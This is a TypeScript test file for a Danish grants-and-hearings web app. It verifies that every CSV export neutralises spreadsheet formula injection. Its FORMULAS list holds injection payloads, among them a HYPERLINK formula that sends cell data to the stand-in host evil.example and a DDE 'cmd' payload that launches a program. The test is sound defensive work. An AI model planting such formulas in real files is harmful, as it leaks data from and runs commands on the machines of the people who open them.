import { expect, it } from "vitest";
import { createParty } from "../../src/modules/parties/index.ts";
import { seedImplementationWorld } from "../agreements/implementation.fixture.ts";
import { useTestApp } from "../helpers/app.ts";
import { describeEachDatabase } from "../helpers/databases.ts";
import type { World } from "../helpers/factories.ts";

/** Formulas an attacker would plant in a text that reaches a CSV export. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd",
  "@SUM(1+1)",
];

/** The cells of a CSV file (semicolons, RFC 4180 quotes). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = "";
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ";" || c === "\n") {
      out.push(cell.replace(/\r$/, ""));
      cell = "";
    } else {
      cell += c;
    }
  }
  return out;
}

/** No cell a spreadsheet would run: every formula start neutralised (a plain number is fine). */
function expectNeutral(csv: string, planted: string[]) {
  const all = cells(csv);
  const live = all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(?:[.,]\d+)?%?$/.test(c));
  expect(live).toEqual([]);
  for (const f of planted) {
    expect(
      all.some((c) => c.startsWith(`'${f}`)),
      `${f} neutralised`,
    ).toBe(true);
  }
}

/**
 * Every CSV export neutralises a planted formula (issue 18.7): the fund status (API and page) and the
 * hearing matrix. The list of CSV routes comes from the OpenAPI document, so a new export fails here
 * until it is added.
 */
describeEachDatabase("CSV exports neutralise formulas", (kind) => {
  const t = useTestApp(kind);
  let w: World;
  const api = (method: "GET" | "POST" | "PUT", url: string, payload?: object, token?: string) =>
    t().request({ method, url, ...(payload ? { payload } : {}), ...(token ? { token } : {}) });
  const exports: Record<string, string> = {};

  it("plants formulas in a grant's title, hearing remarks and party names in the implementation matrix", {
    timeout: 120_000,
  }, async () => {
    const iw = await seedImplementationWorld(t().system);
    w = iw;
    const sec = w.users.secretary.token;
    const party = await createParty(t().system, {
      type: "municipality",
      name: "Esbjerg Kommune",
      region: "Testkyst",
    });
    const fund = await api("POST", "/api/v1/funds", { bodyId: w.ssu.id, name: "Pulje med formler" }, sec);
    expect(fund.statusCode, fund.body).toBe(201);
    const fundId = fund.json().id;
    const parties = await api(
      "PUT",
      `/api/v1/funds/${fundId}/parties`,
      { version: fund.json().version, parties: [{ partyId: party.id, inKey: true }] },
      sec,
    );
    expect(parties.statusCode, parties.body).toBe(200);
    for (const title of FORMULAS) {
      const grant = await api(
        "POST",
        `/api/v1/funds/${fundId}/grants`,
        { title, parts: [{ partyId: party.id, amountOre: "100000" }] },
        sec,
      );
      expect(grant.statusCode, grant.body).toBe(201);
    }
    exports["/api/v1/funds/{id}/status.csv"] = `/api/v1/funds/${fundId}/status.csv`;
    exports.page = `/puljer/${fundId}/status.csv`;

    const agreement = await api(
      "POST",
      "/api/v1/agreements",
      {
        title: "Aftale med formler",
        kind: "cooperation_agreement",
        theme: "Test",
        summary: "Til høring.",
        ownerBodyId: w.ssu.id,
        firstVersion: { label: "Udkast", text: "# Aftalen\n\nUdkast." },
      },
      sec,
    );
    expect(agreement.statusCode, agreement.body).toBe(201);
    const hearing = await api(
      "POST",
      `/api/v1/agreements/${agreement.json().id}/hearings`,
      { startsOn: "2025-03-10", endsOn: "2025-05-01", invitees: [{ partyId: party.id }] },
      sec,
    );
    expect(hearing.statusCode, hearing.body).toBe(201);
    const hearingId = hearing.json().hearings[0].id;
    const response = await api(
      "POST",
      `/api/v1/hearings/${hearingId}/responses`,
      { partyId: party.id, receivedOn: "2025-04-20", text: FORMULAS.join("\n\n"), splitText: true },
      sec,
    );
    expect(response.statusCode, response.body).toBe(201);
    exports["/api/v1/hearings/{id}/matrix.csv"] = `/api/v1/hearings/${hearingId}/matrix.csv`;
    // The implementation matrix: a party's name is a cell; a party joins when a state is recorded for it.
    for (const [i, formula] of FORMULAS.entries()) {
      const planted = await createParty(t().system, {
        type: "municipality",
        name: formula,
        region: "Testkyst",
        municipalityCode: String(910 + i),
      });
      const cell = await api(
        "POST",
        `/api/v1/agreements/${iw.inForce.id}/implementation/${planted.id}`,
        { state: "not_started" },
        sec,
      );
      expect(cell.statusCode, cell.body).toBe(200);
    }
    exports["/api/v1/implementation.csv"] = "/api/v1/implementation.csv";
  });

  it("knows every CSV export of the API", async () => {
    const doc = (await api("GET", "/api/openapi.json")).json() as { paths: Record<string, object> };
    const csvPaths = Object.keys(doc.paths).filter((p) => p.endsWith(".csv"));
    expect(csvPaths.length).toBeGreaterThan(0);
    for (const p of csvPaths) {
      expect(Object.keys(exports), `${p} has no formula test`).toContain(p);
    }
  });

  it("neutralises every planted formula in every export", async () => {
    for (const [name, url] of Object.entries(exports)) {
      const res = await api("GET", url, undefined, w.users.secretary.token);
      expect(res.statusCode, `${name}: ${res.body}`).toBe(200);
      expectNeutral(res.body, FORMULAS);
    }
  });
});
